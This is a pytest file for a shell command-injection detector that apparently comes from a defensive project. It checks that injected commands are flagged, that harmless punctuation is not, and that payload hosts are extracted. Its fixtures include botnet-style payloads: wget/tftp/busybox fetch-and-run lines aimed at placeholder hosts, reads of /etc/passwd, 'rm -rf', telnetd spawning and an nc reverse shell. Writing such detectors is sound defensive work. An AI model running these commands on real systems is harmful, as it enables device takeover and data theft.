"""Injected commands are told from odd characters, and the hosts they name are found."""

from __future__ import annotations

import pytest

from rearguard.dialogue.shell import command, hosts, injection

INJECTED = [
    b"`cd /tmp;wget http://update.worm.invalid/readme.txt;cat readme.txt`",
    b"$(/bin/busybox wget -g 192.0.2.1 -l /tmp/binary -r /mips; /bin/busybox chmod 777 * /tmp/binary)",
    b"`>/tmp/.e && cd /tmp; wget http://192.0.2.1/y.sh -O - > y.sh`",
    b"``;wget http://192.0.2.1/data/k -O ->/tmp/k;sh /tmp/k",
    b"GetDeviceSettings/`cd && cd tmp && export PATH=$PATH:.`",
    b"GetDeviceSettings/; sleep 10;",
    b"`telnetd`",
    b"`reboot`",
    b"$(id>/tmp/x)",
    b"x;id;",
    b"a|cat /etc/passwd",
    b"1.1.1.1;cat${IFS}/etc/passwd",
    b"1.1.1.1&&ping -c 1 192.0.2.1",
    b";rm -rf /tmp",
    b"a\nwget http://192.0.2.1/y",
    b"$(echo HUAWEIUPNP)",
    b"&&/bin/busybox wget",
    b";telnetd -p 9090;",
    b"; /usr/sbin/telnetd",
    b'"; nvram set x=y',
]
HARMLESS = [
    b"",
    b"pool.ntp.org",
    b"dog & cat",
    b"Tom & Jerry",
    b"AT&T",
    b"`home`",
    b"cats;dogs",
    b"a`b",
    b"it's O'Neil's net",
    b"pa$$word",
    b"$(name)",
    b"eat;sleep;repeat",
    b"rock | roll",
    b"R&D curl",
    b"Mr & Mrs Head",
    b"http://acs.example/fw.bin;v=1;sh=2",
    b"http://a.example/b?x=1&ping=2&id=5&cat=7",
    b"http://a.example/?q=rm+-rf",
    b"Wi-Fi & set 5",
    b"5 GHz; 2.4 GHz | guests",
    b"cat; cd; tail",
    b"line one\nline two\nrun for it",
    b"<b>bold</b>; &lt;",
    b"${IFS}",
    b"100% free; no limits",
]


@pytest.mark.parametrize("value", INJECTED)
def test_an_injected_command_is_found(value: bytes) -> None:
    span = injection(value)
    assert span is not None
    assert 0 <= span[0] < span[1] <= len(value)


@pytest.mark.parametrize("value", HARMLESS)
def test_odd_characters_are_no_command(value: bytes) -> None:
    assert injection(value) is None


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (b"wget http://192.0.2.1/x", True),
        (b"rm -rf /tmp/*; wget http://192.0.2.1/x", True),
        (b"cat /etc/passwd", True),
        (b"cat", False),
        (b"catalogue", False),
        (b"ping", False),
        (b"show version", False),
    ],
)
def test_a_value_that_is_a_command(value: bytes, expected: bool) -> None:
    assert command(value) is expected


@pytest.mark.parametrize(
    ("text", "named", "urls"),
    [
        (b"wget http://Update.Worm.invalid/a", ("update.worm.invalid",), ("http://Update.Worm.invalid/a",)),
        (b"wget http://u:p@192.0.2.1:8080/a;x", ("192.0.2.1",), ("http://u:p@192.0.2.1:8080/a",)),
        (b"wget http://[2001:db8::1]:80/a", ("2001:db8::1",), ("http://[2001:db8::1]:80/a",)),
        (b"tftp -g -r mips.sh 192.0.2.7", ("192.0.2.7",), ()),
        (b"tftp -r b2.sh -g 192.0.2.7", ("192.0.2.7",), ()),
        (b"tftp 192.0.2.7 -c get t1.sh", ("192.0.2.7",), ()),
        (b"busybox wget -g 192.0.2.9 -l /tmp/b -r /mips", ("192.0.2.9",), ()),
        (b"ftpget -v -u anonymous -p anonymous -P 21 192.0.2.8 1.sh 1.sh", ("192.0.2.8",), ()),
        (b"wget${IFS}-O-${IFS}dl.worm.invalid/x", ("dl.worm.invalid",), ()),
        (b"curl -O http://a.invalid/x || wget http://a.invalid/x", ("a.invalid",), ("http://a.invalid/x",)),
        (b"nc 192.0.2.3 4444 -e /bin/sh", ("192.0.2.3",), ()),
        (b"sh readme.txt; cat mips.bin", (), ()),
        (b"wget readme", (), ()),
        (b"http://-bad-/x http:// ftp://", (), ()),
        (b"http://999.1.1.1/x", (), ()),
    ],
)
def test_hosts_that_a_payload_names(text: bytes, named: tuple[str, ...], urls: tuple[str, ...]) -> None:
    assert hosts(text) == (named, urls)


def test_no_more_hosts_than_the_limit() -> None:
    named, urls = hosts(b" ".join(b"http://h%d.invalid/" % number for number in range(1000)))
    assert len(named) == len(urls) == 16
